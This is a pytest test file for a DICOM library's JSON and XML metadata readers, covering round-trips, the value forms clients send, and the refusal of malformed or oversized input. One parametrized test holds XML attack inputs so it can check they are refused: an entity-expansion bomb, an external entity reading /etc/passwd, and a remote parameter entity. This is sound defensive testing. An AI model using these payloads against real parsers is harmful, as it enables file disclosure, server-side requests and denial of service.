"""Metadata in JSON and XML become data sets that say the same; what is none, or is hostile, is refused."""

from __future__ import annotations

import base64
import tracemalloc

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from calotype.dicom import dictionary
from calotype.dicom.assembly import json_reader, xml_reader
from calotype.dicom.assembly.json_reader import decimal_string
from calotype.dicom.assembly.nodes import Reference, Sequence, written
from calotype.dicom.datasets import decode
from calotype.dicom.part10 import scan
from calotype.dicom.uids import EXPLICIT_VR_LITTLE_ENDIAN
from calotype.dicom.xml_model import NAMESPACE, native_model
from calotype.errors import InvalidRequest
from support import samples


def data_set_of(document):
    return b"".join(written(json_reader.nodes_of(document).values()))


def json_of(data_set):
    return orjson.loads(scan(data_set, EXPLICIT_VR_LITTLE_ENDIAN, data_bytes=len(data_set)).json())


def value(vr, *values):
    return {"00091001": {"vr": vr, "Value": list(values)}}


def element(vr, *values):
    (node,) = json_reader.nodes_of(value(vr, *values)).values()
    return node.value


# What a data set can carry: no backslash and no control characters, and no blanks at the ends, which are padding.
_WORDS = st.text(
    st.characters(blacklist_categories=["C"], blacklist_characters="\\^="), min_size=1, max_size=12
).filter(lambda text: text == text.strip(" \u3000"))
_ASCII = st.text(
    st.characters(min_codepoint=33, max_codepoint=126, blacklist_characters="\\"), min_size=1, max_size=12
)
_NAMES = st.fixed_dictionaries({"Alphabetic": _WORDS}, optional={"Ideographic": _WORDS, "Phonetic": _WORDS})


def _some(each):
    return st.lists(each, min_size=1, max_size=3)


_VALUES = {
    "PN": _some(_NAMES),
    **dict.fromkeys(("LO", "SH", "UC"), _some(_WORDS)),
    **dict.fromkeys(("LT", "ST", "UT"), _WORDS.map(lambda text: [text])),
    **dict.fromkeys(("AE", "CS", "DA", "DT", "TM", "UI", "AS"), _some(_ASCII)),
    "UR": _ASCII.map(lambda text: [text]),
    "US": _some(st.integers(0, 2**16 - 1)),
    "SS": _some(st.integers(-(2**15), 2**15 - 1)),
    "UL": _some(st.integers(0, 2**32 - 1)),
    "SL": _some(st.integers(-(2**31), 2**31 - 1)),
    "IS": _some(st.integers(-(2**31), 2**31 - 1)),
    "SV": _some(st.integers(-(2**53) + 1, 2**53 - 1)),
    "UV": _some(st.integers(0, 2**53 - 1)),
    "DS": _some(st.decimals(-9999, 9999, places=4).map(float)),
    "FL": _some(st.floats(width=32, allow_nan=False, allow_infinity=False)),
    "FD": _some(st.floats(allow_nan=False, allow_infinity=False)),
    "AT": _some(st.integers(0, 2**32 - 1).map("{:08X}".format)),
}
_ATTRIBUTES = st.one_of(
    *(
        st.builds(lambda vr, values: {"vr": vr, "Value": values}, st.just(vr), values)
        for vr, values in _VALUES.items()
    ),
    st.builds(
        lambda vr, raw: {"vr": vr, "InlineBinary": base64.b64encode(raw).decode()},
        st.sampled_from(["OB", "OW", "OD", "OF", "OL", "OV", "UN"]),
        st.binary(min_size=8, max_size=8),
    ),
    st.sampled_from([{"vr": vr} for vr in ("LO", "PN", "US", "OB", "SQ", "DS")]),
)
_TAGS = st.sampled_from([f"0009{number:04X}" for number in range(0x1000, 0x1040)])
_DATA_SETS = st.recursive(
    st.dictionaries(_TAGS, _ATTRIBUTES, max_size=5),
    lambda inner: st.dictionaries(
        _TAGS,
        st.one_of(
            _ATTRIBUTES, st.lists(inner, min_size=1, max_size=2).map(lambda items: {"vr": "SQ", "Value": items})
        ),
    ),
    max_leaves=4,
)


def _is_ascii(document):
    return orjson.dumps(document).isascii()


@given(_DATA_SETS)
def test_json_to_data_set_to_json_is_the_same(document):
    document["00080018"] = {"vr": "UI", "Value": ["1.2.3"]}
    expected = dict(document)
    if not _is_ascii(document):
        expected["00080005"] = {"vr": "CS", "Value": ["ISO_IR 192"]}

    assert json_of(data_set_of(document)) == expected


@given(_DATA_SETS)
def test_xml_says_what_json_says(document):
    document["00080018"] = {"vr": "UI", "Value": ["1.2.3"]}
    document["00090010"] = {"vr": "LO", "Value": ["CALOTYPE TEST"]}

    assert data_set_of(xml_reader.data_set(native_model(document))) == data_set_of(document)


@pytest.mark.parametrize("make", [samples.ct, samples.mr, samples.cr, samples.structured_report])
def test_a_scanners_header_goes_through_json_and_back(make):
    document = json_of(make())
    document.pop("7FE00010", None)

    assert json_of(data_set_of(document)) == document


@pytest.mark.parametrize("make", [samples.ct, samples.structured_report])
def test_a_scanners_header_in_utf_8_comes_back_bit_by_bit_from_xml(make):
    original = make(changes={0x7FE00010: None})
    if make is samples.structured_report:
        # Items of undefined length are written with theirs.
        original = data_set_of(json_of(original))

    document = scan(original, EXPLICIT_VR_LITTLE_ENDIAN, data_bytes=len(original)).json()

    assert data_set_of(xml_reader.data_set(native_model(document))) == original


def test_text_is_written_in_utf_8_and_says_so():
    nodes = json_reader.nodes_of(
        {"00080005": {"vr": "CS", "Value": ["GB18030"]}, "00100010": {"vr": "PN", "Value": [{"Alphabetic": "王"}]}}
    )

    assert nodes[0x00080005].value == b"ISO_IR 192"
    assert nodes[0x00100010].value == "王".encode()


def test_text_of_an_item_alone_makes_the_data_set_utf_8():
    item = {"00080104": {"vr": "LO", "Value": ["胸部"]}}

    assert 0x00080005 in json_reader.nodes_of({"00081032": {"vr": "SQ", "Value": [item]}})


@pytest.mark.parametrize(
    ("attribute", "raw"),
    [
        ({"vr": "PN", "Value": ["Wang^Li=王^丽"]}, "Wang^Li=王^丽".encode()),
        ({"vr": "PN", "Value": [{"Ideographic": "王"}]}, "=王".encode()),
        ({"vr": "PN", "Value": [None, {"Alphabetic": "A"}]}, b"\\A"),
        ({"vr": "DS", "Value": ["1.50", 2, None, 0.1]}, b"1.50\\2\\\\0.1"),
        ({"vr": "IS", "Value": ["+7", 7.0]}, b"+7\\7"),
        ({"vr": "US", "Value": ["7", 8.0]}, b"\7\0\10\0"),
        ({"vr": "FL", "Value": ["NaN"]}, b"\0\0\xc0\x7f"),
        ({"vr": "AT", "Value": ["7fe00010"]}, b"\xe0\x7f\x10\0"),
        ({"vr": "LO"}, b""),
        ({"vr": "LO", "Value": []}, b""),
        ({"vr": "LT", "Value": ["one\r\ntwo\\three"]}, b"one\r\ntwo\\three"),
        ({"vr": "OB", "InlineBinary": "AAE=\n"}, b"\0\1"),
    ],
)
def test_forms_that_clients_use_are_read(attribute, raw):
    assert json_reader.nodes_of({"00091001": attribute})[0x00091001].value == raw


@pytest.mark.parametrize(
    "attribute",
    [
        "text",
        {"vr": "XX", "Value": ["1"]},
        {"Value": ["1"]},
        {"vr": "LO", "Value": "text"},
        {"vr": "LO", "Value": [1]},
        {"vr": "LO", "Value": ["line\nline"]},
        {"vr": "LO", "Value": ["nul\0"]},
        {"vr": "LT", "Value": ["one", "two"]},
        {"vr": "LT", "Value": ["\x1b"]},
        {"vr": "CS", "Value": ["ü"]},
        {"vr": "UI", "Value": [{"a": 1}]},
        {"vr": "PN", "Value": [{"Alphabetic": "A=B"}]},
        {"vr": "PN", "Value": [{"Alphabetic": 1}]},
        {"vr": "PN", "Value": [[]]},
        {"vr": "DS", "Value": ["seven"]},
        {"vr": "DS", "Value": [True]},
        {"vr": "IS", "Value": [2**31]},
        {"vr": "IS", "Value": [1.5]},
        {"vr": "US", "Value": [65536]},
        {"vr": "US", "Value": [-1]},
        {"vr": "US", "Value": [None]},
        {"vr": "FL", "Value": [1e300]},
        {"vr": "FD", "Value": ["x"]},
        {"vr": "AT", "Value": ["PatientID"]},
        {"vr": "OB", "Value": [1]},
        {"vr": "OB", "InlineBinary": "!!"},
        {"vr": "LO", "InlineBinary": "AAE="},
        {"vr": "OB", "InlineBinary": "AAE=", "BulkDataURI": "x"},
        {"vr": "SQ", "BulkDataURI": "x"},
        {"vr": "OB", "BulkDataURI": ""},
        {"vr": "SQ", "Value": ["item"]},
        {"vr": "SQ", "Value": [{"00080000x": {}}]},
    ],
)
def test_values_of_another_kind_are_refused_with_their_place(attribute):
    with pytest.raises(InvalidRequest, match=r"00091001"):
        json_reader.nodes_of({"00091001": attribute})


@pytest.mark.parametrize("name", ["PatientID", "0010", "00100020 ", "FFFEE000", "00000002", "0010002G"])
def test_attributes_that_no_data_set_has_are_refused(name):
    with pytest.raises(InvalidRequest):
        json_reader.nodes_of({name: {"vr": "LO", "Value": ["x"]}})


def test_an_attribute_in_two_spellings_is_refused():
    with pytest.raises(InvalidRequest, match="twice"):
        json_reader.nodes_of({"0008103e": {"vr": "LO"}, "0008103E": {"vr": "LO"}})


def test_the_dictionary_knows_a_vr_that_is_left_out():
    (node,) = json_reader.nodes_of({"00100020": {"Value": ["P1"]}}).values()

    assert (node.vr, node.value) == (dictionary.vr_of(0x00100020), b"P1")


def test_file_meta_and_group_lengths_are_no_part_of_the_data_set():
    nodes = json_reader.nodes_of(
        {
            "00020002": {"vr": "UI", "Value": ["1"]},
            "00020010": {"vr": "UI", "Value": ["1.2.840.10008.1.2.1"]},
            "00080000": {"vr": "UL", "Value": [4]},
        }
    )

    assert [*nodes] == [0x00020010]


def test_nesting_has_an_end():
    document = {}
    for _ in range(json_reader.MAX_DEPTH + 1):
        document = {"00081115": {"vr": "SQ", "Value": [document]}}

    with pytest.raises(InvalidRequest, match="nested"):
        json_reader.nodes_of(document)


@pytest.mark.parametrize("document", [b"", b"{", b"[]", b"[1]", b"7", b'"text"', b"[" * 2000, b'{"a":NaN}', b"\xff"])
def test_documents_that_are_no_metadata_are_refused(document):
    with pytest.raises(InvalidRequest):
        json_reader.data_sets(document)


def test_one_data_set_needs_no_array():
    assert json_reader.data_sets(b"{}") == json_reader.data_sets(b"[{}]") == [{}]


@given(st.floats(-1e307, 1e307))
def test_decimal_strings_fit_and_are_near(number):
    text = decimal_string(number)

    assert len(text) <= 16
    assert float(text) == pytest.approx(number, rel=1e-8, abs=1e-300)


def xml(content, head='<?xml version="1.0" encoding="UTF-8"?>'):
    return f'{head}<NativeDicomModel xmlns="{NAMESPACE}">{content}</NativeDicomModel>'.encode()


def test_indented_xml_with_names_items_and_bulk_data_is_read():
    document = xml_reader.data_set(
        xml("""
          <DicomAttribute tag="00100010" vr="PN" keyword="PatientName">
            <PersonName number="1">
              <Alphabetic><FamilyName>Wang</FamilyName><NameSuffix>Dr</NameSuffix></Alphabetic>
              <Ideographic><FamilyName>王</FamilyName></Ideographic>
            </PersonName>
          </DicomAttribute>
          <DicomAttribute tag="00280030" vr="DS">
            <Value number="2"> 2.0 </Value>
            <Value number="1">1.50</Value>
          </DicomAttribute>
          <DicomAttribute tag="00081032" vr="SQ">
            <Item number="1">
              <DicomAttribute tag="00080100" vr="SH"><Value number="1">A&amp;B</Value></DicomAttribute>
            </Item>
          </DicomAttribute>
          <DicomAttribute tag="00090001" vr="LO" privateCreator="ACME"><Value number="1">x</Value></DicomAttribute>
          <DicomAttribute tag="7FE00010" vr="OW"><BulkData uri="bulk/1"/></DicomAttribute>
          <DicomAttribute tag="00100020" vr="LO"/>
        """)
    )

    assert document == {
        "00100010": {"vr": "PN", "Value": [{"Alphabetic": "Wang^^^^Dr", "Ideographic": "王"}]},
        "00280030": {"vr": "DS", "Value": ["1.50", "2.0"]},
        "00081032": {"vr": "SQ", "Value": [{"00080100": {"vr": "SH", "Value": ["A&B"]}}]},
        "00090010": {"vr": "LO", "Value": ["ACME"]},
        "00091001": {"vr": "LO", "Value": ["x"]},
        "7FE00010": {"vr": "OW", "BulkDataURI": "bulk/1"},
        "00100020": {"vr": "LO"},
    }
    nodes = json_reader.nodes_of(document)
    assert nodes[0x7FE00010].value == Reference("bulk/1")
    assert isinstance(nodes[0x00081032].value, Sequence)


def private(tag, text, creator=""):
    maker = f' privateCreator="{creator}"' if creator else ""
    return f'<DicomAttribute tag="{tag}" vr="LO"{maker}><Value number="1">{text}</Value></DicomAttribute>'


def test_private_elements_get_the_block_of_their_creator():
    document = xml_reader.data_set(
        xml(
            private("00090010", "OTHER")
            + private("00090011", "ACME")
            + private("00090002", "x", "ACME")
            + private("00090002", "y", "THIRD")
        )
    )

    assert document["00091102"]["Value"] == ["x"]
    assert document["00090012"]["Value"] == ["THIRD"]
    assert document["00091202"]["Value"] == ["y"]


BOMB = """<!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>"""


@pytest.mark.parametrize(
    "document",
    [
        b"",
        b"no xml",
        xml("<DicomAttribute"),
        xml("", head=BOMB),
        xml("&b;", head=BOMB),
        xml("", head='<!DOCTYPE x SYSTEM "file:///etc/passwd">'),
        xml("", head='<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p;]>'),
        xml("", head='<?xml version="1.0" encoding="no-such"?>'),
        xml("<DicomAttribute tag='00081032' vr='SQ'><Item number='1'>" * 100),
        xml("<x/>"),
        xml("<DicomAttribute vr='LO'/>"),
        xml("<DicomAttribute tag='PatientID' vr='LO'/>"),
        xml("<DicomAttribute tag='00100020' vr='LO'/>" * 2),
        xml("<DicomAttribute tag='00100020'><Value number='1'/><InlineBinary/></DicomAttribute>"),
        xml("<DicomAttribute tag='00100020'><Other/></DicomAttribute>"),
        xml("<DicomAttribute tag='00100020'><Value number='2'>a</Value></DicomAttribute>"),
        xml("<DicomAttribute tag='00100020'><Value number='99999999999'>a</Value></DicomAttribute>"),
        xml("<DicomAttribute tag='00100020'><Value>a</Value></DicomAttribute>"),
        xml("<DicomAttribute tag='00100010'><PersonName number='1'><Other/></PersonName></DicomAttribute>"),
        xml("<DicomAttribute tag='00091001'><BulkData uri='a'/><BulkData uri='b'/></DicomAttribute>"),
        b"<NativeDicomModel xmlns='http://example.org/other'/>",
        b"<Other/>",
    ],
)
def test_xml_that_is_hostile_or_no_model_is_refused(document):
    with pytest.raises(InvalidRequest):
        xml_reader.data_set(document)


def test_xml_elements_have_an_end(monkeypatch):
    monkeypatch.setattr(xml_reader, "MAX_ELEMENTS", 10)

    with pytest.raises(InvalidRequest, match="more than"):
        xml_reader.data_set(xml("<DicomAttribute tag='00091001' vr='LO'/>" * 11))


@given(st.binary(max_size=200))
def test_any_bytes_are_metadata_or_refused(document):
    for read in (json_reader.data_sets, xml_reader.data_set):
        try:
            read(document)
        except InvalidRequest:
            continue


def test_values_too_long_for_their_vr_are_refused():
    with pytest.raises(InvalidRequest, match="65534"):
        data_set_of(value("LO", "x" * 70_000))


def test_what_is_written_is_read_again():
    assert [each.value for each in decode(data_set_of(value("LO", "odd")), EXPLICIT_VR_LITTLE_ENDIAN)] == [b"odd "]
    assert element("UI", "1.2") == b"1.2"


@pytest.mark.parametrize("value", [b'{"a":0}', b"[]", b"1.5", b'"ab"'], ids=["objects", "arrays", "numbers", "texts"])
def test_json_of_very_many_values_is_refused_before_it_takes_memory(value):
    document = b'[{"00080018":{"vr":"UI","Value":[' + b",".join([value] * 2_100_000) + b"]}}]"
    tracemalloc.start()
    with pytest.raises(InvalidRequest, match="several requests"):
        json_reader.data_sets(document)
    _, peak_bytes = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak_bytes < 1_000_000
